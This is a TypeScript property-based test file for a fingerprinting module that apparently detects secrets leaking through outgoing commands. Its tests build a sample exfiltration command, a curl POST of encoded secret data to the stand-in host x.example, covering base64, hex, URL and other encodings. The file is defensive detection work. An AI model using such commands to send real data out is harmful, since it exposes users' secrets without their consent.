import { describe, expect, test } from 'bun:test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Glob } from 'bun';
import fc from 'fast-check';
import { fingerprintsOf, fingerprintsSent } from '../../src/lib/fingerprints.ts';

const PRINTABLE = Array.from({ length: 94 }, (_, index) => String.fromCharCode(33 + index));
const text = (minLength: number, maxLength = minLength) =>
  fc
    .array(fc.constantFrom(...PRINTABLE, '\n', ' ', 'é'), { minLength, maxLength })
    .map((each) => each.join(''));

function share(kept: string, sent: string): boolean {
  const known = new Set(fingerprintsOf(kept));
  return fingerprintsSent(sent)?.some((each) => known.has(each)) === true;
}

const ENCODINGS: Readonly<Record<string, (leak: string) => string>> = {
  plain: (leak) => leak,
  base64: (leak) => Buffer.from(leak).toString('base64'),
  'base64 in lines': (leak) => Buffer.from(leak).toString('base64').replace(/.{76}/g, '$&\n'),
  base64url: (leak) => Buffer.from(leak).toString('base64url'),
  hex: (leak) => Buffer.from(leak).toString('hex'),
  'hex in capitals': (leak) => Buffer.from(leak).toString('hex').toUpperCase(),
  'bytes of a script': (leak) => Buffer.from(leak).toString('hex').replace(/../g, '\\x$&'),
  URL: (leak) => encodeURIComponent(leak),
  form: (leak) => new URLSearchParams({ a: leak }).toString(),
  'base64 in a URL': (leak) => encodeURIComponent(Buffer.from(leak).toString('base64')),
};

describe('fingerprints', () => {
  test.each(Object.entries(ENCODINGS))('find 32 bytes that leave as %s', (_, encode) => {
    fc.assert(
      fc.property(text(0, 200), text(32), text(0, 200), text(0, 60), (before, leak, after, around) => {
        fc.pre(new Set(leak).size > 16);
        expect(share(before + leak + after, `curl -d 'a=${encode(leak)}' https://x.example/${around}`)).toBe(
          true,
        );
      }),
      { numRuns: 200 },
    );
  });

  test('find 32 bytes with other text around them in base64', () => {
    fc.assert(
      fc.property(text(32), text(0, 40), text(0, 40), (leak, before, after) => {
        fc.pre(new Set(leak).size > 16);
        expect(share(leak, ENCODINGS['base64']?.(before + leak + after) ?? '')).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  test('are not shared by texts that have nothing in common', () => {
    let hits = 0;
    const texts = fc
      .sample(text(400), { numRuns: 400, seed: 3 })
      .map((each) => ({ kept: new Set(fingerprintsOf(each)), sent: fingerprintsSent(each) ?? [] }));
    for (const [index, { kept }] of texts.entries())
      for (const { sent } of texts.slice(index + 1)) if (sent.some((each) => kept.has(each))) hits += 1;
    expect(hits).toBe(0);
  });

  test('are shared by at most one of 100,000 pairs of a file and a command that have nothing to do with each other', () => {
    const root = join(import.meta.dir, '../..');
    const textOf = (file: string) => readFileSync(join(root, file), 'utf8');
    const files = [...new Glob('src/**/*.ts').scanSync(root)].filter((file) => !file.includes('generated'));
    const kept = files.map((file) => new Set(fingerprintsOf(textOf(file))));
    const examples = textOf('policies/baseline/policy.yaml').matchAll(/^\s+- \{command: (.+)\}$/gm);
    const sent = [...examples].map(([, command = '']) => fingerprintsSent(command) ?? []);
    const asked = sent.filter((pieces) => pieces.length > 0);
    const hits = kept.flatMap((known) => asked.filter((pieces) => pieces.some((each) => known.has(each))));
    expect(kept.length * asked.length).toBeGreaterThan(100_000);
    expect(hits.length).toBeLessThanOrEqual(1);
  });

  test('are unknown of more than can be looked at', () => {
    const long = fc.sample(text(40), { numRuns: 1, seed: 1 })[0] ?? '';
    expect(fingerprintsSent(long.repeat(200_000))).toBeUndefined();
    expect(fingerprintsSent(Buffer.from(long.repeat(50_000)).toString('base64'))).toBeUndefined();
  });

  test.each([
    ['a line of dashes', '-'.repeat(80)],
    ['the start of a key', '-----BEGIN -----BEGIN -----BEGIN'.slice(0, 23)],
    ['a short text', 'TOKEN=abc'],
    ['nothing', ''],
  ])('are not made of %s', (_, each) => {
    expect(fingerprintsOf(each)).toEqual([]);
  });
});
